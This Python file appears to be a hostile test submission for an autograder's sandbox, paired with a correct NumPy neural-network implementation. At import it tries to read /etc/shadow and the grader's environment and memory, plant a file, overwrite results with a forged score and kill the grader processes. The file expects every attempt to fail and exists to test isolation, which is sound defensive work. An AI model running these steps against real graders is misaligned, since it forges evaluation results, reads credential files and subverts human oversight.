"""Hostile (issue 10, items 1 and 9): uses whatever power the child has over the machine and the
grader. Otherwise correct. At import it tries to: read /etc/shadow; read the grader's request
file (../request.json) and the grader's environment and memory (/proc/PID/environ, /proc/PID/mem
of its grader and launchers); plant a file in the grader's own package folder (found from
the launcher's command line); overwrite the results files named on the grader's command line
(--results, --csv, --results-dir); and kill its grader and the grader's launchers and other
runners (only those of its own grading: it aims at nothing else on the machine).
What must happen: none of it works (it is neither root nor the grader's uid, and Landlock or
the namespaces confine it), it prints "REACHED: nothing", the grader survives and writes its
own results.json with full marks (the code is correct), and other students are unaffected."""
import os
import signal

REACHED = []
ME = os.getpid()


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().split(b"\0")
    except OSError:
        return []


def _try(what, fn):
    try:
        fn()
        REACHED.append(what)
    except Exception:  # noqa: BLE001
        pass


def _read(path):
    with open(path, "rb") as f:
        f.read(64)


_try("read /etc/shadow", lambda: _read("/etc/shadow"))
_try("read ../request.json", lambda: _read("../request.json"))
try:
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    pids = []


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


# Its own grader: the nearest ancestor that is "verify grade" (or pytest). Only that grading is
# aimed at (the grader, its launchers, its other children), never anything else on the machine.
grader, pid = None, ME
for _ in range(12):
    pid = _parent(pid)
    args = b" ".join(_cmdline(pid))
    if pid <= 1:
        break
    if b"verify grade" in args or b"-m verify" in args or b"pytest" in args:
        grader = pid
        break


def _under_grader(pid):
    for _ in range(12):
        pid = _parent(pid)
        if pid == grader:
            return True
        if pid <= 1:
            return False
    return False


graders = [grader] if grader else []
launchers, runners = [], []
for pid in pids:
    if pid == ME or not grader or not _under_grader(pid):
        continue
    args = b" ".join(_cmdline(pid))
    if b"_launcher.py" in args:
        launchers.append((pid, _cmdline(pid)))
    elif b"python_runner.py" in args or b"node_runner.js" in args or b"node_worker.js" in args:
        runners.append(pid)
for pid in graders + [p for p, _ in launchers]:
    _try(f"read /proc/{pid}/environ", lambda pid=pid: _read(f"/proc/{pid}/environ"))
    _try(f"read /proc/{pid}/mem", lambda pid=pid: _read(f"/proc/{pid}/mem"))
for pid, args in launchers:
    for a in args:
        if a.endswith(b"_launcher.py"):
            target = os.path.join(os.path.dirname(a.decode()), f".hostile-planted-{ME}")

            def plant(target=target):
                with open(target, "w") as f:
                    f.write("planted")
            _try(f"plant {target}", plant)
for pid in graders:
    args = _cmdline(pid)
    for i, a in enumerate(args[:-1]):
        if a in (b"--results", b"--csv"):
            def forge(path=args[i + 1].decode()):
                with open(path, "w") as f:
                    f.write('{"score": 1000, "output": "forged", "tests": []}')
            _try(f"forge {args[i + 1].decode()}", forge)
        if a == b"--results-dir":
            def forge_dir(path=args[i + 1].decode()):
                os.makedirs(path, exist_ok=True)
                with open(os.path.join(path, "hostile_forged.json"), "w") as f:
                    f.write('{"score": 1000}')
            _try(f"forge in {args[i + 1].decode()}", forge_dir)
for pid in [p for p, _ in launchers] + runners + graders:  # the grader last
    if pid != os.getppid():
        _try(f"kill {pid}", lambda pid=pid: os.kill(pid, signal.SIGKILL))
print("REACHED:", REACHED if REACHED else "nothing")


# ---- otherwise correct (the same as correct_snake_exact.py) ----
import numpy as np  # noqa: E402


class DenseLayer:
    def __init__(self, n_inputs, n_neurons, activation):
        self.weights = np.zeros((n_inputs, n_neurons))
        self.biases = np.zeros((1, n_neurons))
        self.activation = activation

    def _act(self, z):
        if self.activation == "relu":
            return np.maximum(0.0, z)
        if self.activation == "sigmoid":
            return 1.0 / (1.0 + np.exp(-z))
        if self.activation == "tanh":
            return np.tanh(z)
        return z

    def _act_prime(self, z):
        if self.activation == "relu":
            return np.where(z > 0, 1.0, 0.0)
        if self.activation == "sigmoid":
            s = 1.0 / (1.0 + np.exp(-z))
            return s * (1.0 - s)
        if self.activation == "tanh":
            return 1.0 - np.tanh(z) ** 2
        return np.ones_like(z)

    def forward(self, inputs):
        self.inputs = np.asarray(inputs, dtype=float)
        self.z = np.dot(self.inputs, self.weights) + self.biases
        return self._act(self.z)

    def backward(self, d_outputs):
        dz = d_outputs * self._act_prime(self.z)
        self.d_weights = np.dot(self.inputs.T, dz)
        self.d_biases = dz.sum(axis=0)  # shape (n_neurons,): accepted
        self.d_inputs = np.dot(dz, self.weights.T)
        return self.d_inputs


class MLP:
    def __init__(self):
        self.layers = []

    def add_layer(self, layer):
        self.layers.append(layer)
        return self

    def forward(self, x):
        for layer in self.layers:
            x = layer.forward(x)
        return x

    def backward(self, d_loss_wrt_prediction):
        grad = d_loss_wrt_prediction
        for layer in reversed(self.layers):
            grad = layer.backward(grad)
        return grad


def mse(y_true, y_pred):
    return float(((y_pred - y_true) ** 2).mean())


def mse_derivative(y_true, y_pred):
    return 2.0 * (y_pred - y_true) / y_true.size
